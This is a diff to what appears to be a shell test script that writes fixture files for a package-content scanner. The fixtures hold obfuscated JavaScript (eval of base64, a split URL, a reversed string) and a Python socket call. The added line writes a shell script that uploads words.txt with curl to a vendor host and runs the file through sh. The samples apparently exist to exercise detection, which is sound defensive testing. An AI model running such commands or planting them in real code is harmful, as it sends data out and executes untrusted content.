@@ -54,6 +54,7 @@ cat >in/package.json <<'JSON'
 JSON
 printf 'const a = require("./other");\nfetch("http://plain.vendor-host.net/api");\n// http://10.0.0.1/\n' >in/x.js
 printf 'eval(atob("YWxlcnQoMSk=")); require(y); f(process.env.HOME, "ht" + "tp://j.vendor-host.net/x", "aGlkZGVuISE=".split("").reverse().join(""));\n' >>in/x.js
+printf '#!/bin/sh\ncurl -T - http://plain.vendor-host.net/api <words.txt\nsh <words.txt\n' >in/x.sh
 printf '# SPDX-License-Identifier: GPL-2.0-only\nimport socket\nsocket.create_connection(("a", 1))\n' >in/x.py
 printf 'Metadata-Version: 2.1\nName: x\nVersion: 1\nSummary: s\nLicense: MIT\nAuthor: A\nAuthor-email: a@b.org\nHome-page: https://x.org\nKeywords: a,b\nClassifier: Topic :: Internet\nRequires-Dist: y\nProject-URL: S, https://s.org\nX-Other: z\n' >in/x.dist-info/METADATA
 printf 'x.py,sha256=47DEQpj8HBSa-_TImW-5JCeuQeRkm5NMpJWZG3hSuFU,0\nx.dist-info/RECORD,,\n' >in/x.dist-info/RECORD
